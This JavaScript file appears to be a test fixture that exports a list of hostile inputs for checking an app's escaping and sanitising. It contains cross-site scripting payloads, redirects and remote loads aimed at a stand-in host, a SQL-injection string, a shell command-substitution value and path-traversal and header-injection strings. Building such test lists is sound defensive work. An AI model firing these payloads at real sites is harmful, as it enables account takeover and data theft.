// What a hostile visitor may call himself: values that a profile, a product or a coupon has.

export const hit = 'window.__hit=1';
export const payloads = [
  `<script>${hit}</script>`, `<img src=x onerror="${hit}">`, `"><img src=x onerror=${hit}>`, `'><svg onload=${hit}>`,
  `" onmouseover="${hit}" x="`, `' onfocus='${hit}' autofocus='`, '" style="background:url(javascript:alert(1))', '` onmouseover=`x',
  `javascript:${hit}`, `JaVaScRiPt:${hit}`, ` javascript:${hit}`, `java\tscript:${hit}`, `java\nscript:${hit}`, `\u0001javascript:${hit}`,
  `javascript&colon;${hit}`, `&#106;avascript:${hit}`, `&#x6A;avascript:${hit}`, `javascript&#58;${hit}`, `%6aavascript:${hit}`,
  `data:text/html,<script>${hit}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:${hit}`,
  `//evil.example/`, `\\\\evil.example\\`, `blob:null/x`, `view-source:x`, `feed:javascript:${hit}`,
  `</title><script>${hit}</script>`, `</textarea><script>${hit}</script>`, `</style><script>${hit}</script>`, `</script><script>${hit}</script>`,
  `--><script>${hit}</script>`, `--!><script>${hit}</script>`, `]]><script>${hit}</script>`, `<!--`, '<![CDATA[', '<?php', '<!DOCTYPE x>',
  `<a href="javascript:${hit}">x</a>`, `<iframe srcdoc="<script>parent.${hit}</script>">`, `<math><mi//xlink:href="data:x,<script>${hit}</script>">`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`, `<details open ontoggle=${hit}>`, `<base href="//evil.example/">`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `<form action=//evil.example><button>x`, `<template><script>${hit}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `{{ name }}`, `{{{ name }}}`, '{{ link', '}}', `&lt;script&gt;${hit}&lt;/script&gt;`, '&amp;', '&', '<', '>', '"', "'", '`', '=', '\\', '\u2028', '\u0000', '\ufeff',
  '\ud83d\ude00', 'สวัสดี', `+ADw-script+AD4-${hit}+ADw-/script+AD4-`, `\u00bcscript\u00be${hit}`, `%3Cscript%3E${hit}%3C/script%3E`, 'a'.repeat(5000),
  `<x onclick=${hit}>`, `<style>@import'//evil.example'</style>`, `<link rel=stylesheet href=//evil.example>`, `expression(${hit})`,
  // markup that parsers read in more than one way
  `<svg></p><style><a id="</style><img src=1 onerror=${hit}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`, `<noscript><style></noscript><img src=x onerror=${hit}></style>`,
  `<svg><![CDATA[><img src=x onerror=${hit}>]]></svg>`, `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${hit}>">`,
  `<xmp><p title="</xmp><img src onerror=${hit}>">`, `<iframe></iframe><img src=x onerror=${hit}>`, `<plaintext>`, `<frameset onload=${hit}>`,
  `<object data="javascript:${hit}">`, `<embed src="javascript:${hit}">`, `<img srcset="x" onerror=${hit}>`, `<video><source onerror=${hit}>`, `<body onload=${hit}>`,
  `<isindex action=javascript:${hit} type=image>`, `<input autofocus onfocus=${hit}>`, `<marquee onstart=${hit}>`, `<a xlink:href="javascript:${hit}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${hit}</script></svg>#x">`, `<button formaction=javascript:${hit}>`,
  // ends of where it stands, and beginnings of what swallows the rest
  `"`, `'`, `">`, `'>`, `" >`, `"/>`, `" a="`, `' a='`, `\" onx=${hit} x=\"`, `&quot; onx=${hit} x=&quot;`, `&#34;><img src=x onerror=${hit}>`, `\u003cimg src=x onerror=${hit}\u003e`, `\x3cscript\x3e`,
  '</', '</p', '<p', '<!', '<?', '<!-', '<!--[if IE]>', '<!-->', '<!--->', '--', '->', '>', ']]>', '<%', '%>', '${name}', '#{name}', '{%', '{{', '{{{', '{{}}', '[[name]]', '<#if x>',
  '</main>', '</body></html>', '</a>', '</section>', '</template>', '</svg>', '</select>',
  // schemes
  `\tjavascript:${hit}`, `javascript\u0000:${hit}`, `java\u0000script:${hit}`, `\u00a0javascript:${hit}`, `\u200bjavascript:${hit}`, `javascript&Tab;:${hit}`, `j&#97v&#97script&#x3A;${hit}`, `javascript:%0a${hit}`,
  `javascript://%0a${hit}`, `jav&NewLine;ascript:${hit}`, `data:,x`, `file:///etc/passwd`, `ws://x`, `intent:x#Intent;end`, `ms-word:ofe|u|x`, `//evil.example`, `/\\evil.example`, `\\/evil.example`, `/\t/evil.example`,
  `http:evil.example`, `https:\\evil.example`, `http://evil.example@127.0.0.1/`, `?javascript:${hit}`, `#javascript:${hit}`, `./javascript:${hit}`,
  // texts that break programs
  'undefined', 'null', 'NaN', 'true', '[object Object]', '0x0', '1e309', '-1', "'; DROP TABLE visitors; --", '$(reboot)', '`reboot`', '../../../../etc/passwd', '%s%n%p', '%00', '%0d%0aSet-Cookie: a=b',
  'a\r\nSet-Cookie: a=b', 'line\nline', '\u202eevil', '\u2066evil\u2069', '\u200d', '\ufeffx', '\u00ad', 'Z\u0351\u036b\u0343a\u0363l\u030dg\u0304o', '\ud83d\udc69\u200d\ud83d\udc67', '\uff1cscript\uff1e', '\u2039script\u203a',
  '\u3008script\u3009', '\ue000', '\ufffe', '\uffff', '\u0085', '\u0001\u0002\u001f\u007f', '\u000b\u000c', 'I\u0307\u0130\u0131', '\ufb01', 'เ\u0e34\u0e35\u0e48สุ\u0e49',
];
